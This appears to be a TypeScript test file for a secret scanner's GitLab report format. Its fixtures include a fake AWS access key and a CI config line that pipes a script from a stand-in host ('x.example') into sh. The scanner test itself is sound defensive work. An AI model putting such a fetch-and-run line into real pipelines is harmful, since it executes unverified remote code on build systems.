// `--format gitlab`: GitLab's secret-detection report, validated against the restated subset of
// its published schema, for a working-tree scan and for a history scan (commit from git).
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync, execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import Ajv from 'ajv';
import addFormats from 'ajv-formats';
import schema from '../support/gitlab-secret-detection-subset.schema.json';
import { makeRepo } from '../support/git-repo';

const repo = join(__dirname, '../..');
const cli = join(repo, 'dist/cli.js');
const AWS = 'AKIA7JBD4R6CC6PKYQJR';

interface Report {
  version: string;
  vulnerabilities: { id: string; category: string; severity: string; location: { file: string; start_line: number; commit: { sha: string } }; identifiers: { value: string }[] }[];
  scan: { start_time: string; end_time: string };
}

function report(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}): { code: number; report: Report; raw: string } {
  const r = spawnSync(process.execPath, [cli, ...args, '--format', 'gitlab'], { cwd, encoding: 'utf8', env: { ...process.env, CI_COMMIT_SHA: '', ...env } });
  assert.ok(r.status === 0 || r.status === 1, r.stderr);
  return { code: r.status!, report: JSON.parse(r.stdout) as Report, raw: r.stdout };
}

function valid(rep: unknown): void {
  const ajv = new Ajv({ strict: false, allErrors: true });
  addFormats(ajv);
  const validate = ajv.compile(schema);
  assert.ok(validate(rep), JSON.stringify(validate.errors, null, 1));
}

describe('--format gitlab', () => {
  before(() => {
    if (!existsSync(cli)) execFileSync(process.execPath, ['esbuild.mjs', '--only=cli'], { cwd: repo });
  });

  it('a scan: valid report, secrets only, commit from CI_COMMIT_SHA, stable ids, no full secret', () => {
    const r = makeRepo();
    r.write('.gitlab-ci.yml', `build:\n  variables:\n    AWS_ACCESS_KEY_ID: ${AWS}\n  script:\n    - curl https://x.example/i.sh | sh\n`);
    r.commit('ci');
    const sha = r.git('rev-parse', 'HEAD').trim();
    const a = report(['scan', '.'], r.dir, { CI_COMMIT_SHA: sha });
    valid(a.report);
    assert.equal(a.code, 1);
    assert.deepEqual(a.report.vulnerabilities.map((v) => [v.identifiers[0]!.value, v.location.file, v.location.start_line, v.location.commit.sha, v.severity]), [['secret/aws-access-key-id', '.gitlab-ci.yml', 3, sha, 'Critical']]);
    assert.ok(!a.raw.includes(AWS));
    const b = report(['scan', '.'], r.dir, { CI_COMMIT_SHA: sha });
    assert.equal(b.report.vulnerabilities[0]!.id, a.report.vulnerabilities[0]!.id, 'the same finding keeps its id');
    const none = report(['scan', '.'], r.dir);
    assert.match(none.report.vulnerabilities[0]!.location.commit.sha, /^0{40}$/, 'outside CI: a placeholder sha, as the schema requires one');
  });

  it('history: each vulnerability carries the commit that introduced it', () => {
    const r = makeRepo();
    r.write('.env', `AWS_ACCESS_KEY_ID=${AWS}\n`);
    const first = r.commit('add');
    r.remove('.env');
    r.commit('remove');
    const h = report(['history'], r.dir);
    valid(h.report);
    assert.equal(h.report.vulnerabilities.length, 1);
    assert.equal(h.report.vulnerabilities[0]!.location.commit.sha, first);
    assert.equal(h.report.vulnerabilities[0]!.location.file, '.env');
  });

  it('an empty report is still valid', () => {
    const r = makeRepo();
    r.write('README.md', 'hi\n');
    r.commit('x');
    const e = report(['scan', '.'], r.dir);
    valid(e.report);
    assert.deepEqual(e.report.vulnerabilities, []);
    assert.equal(e.code, 0);
  });
});
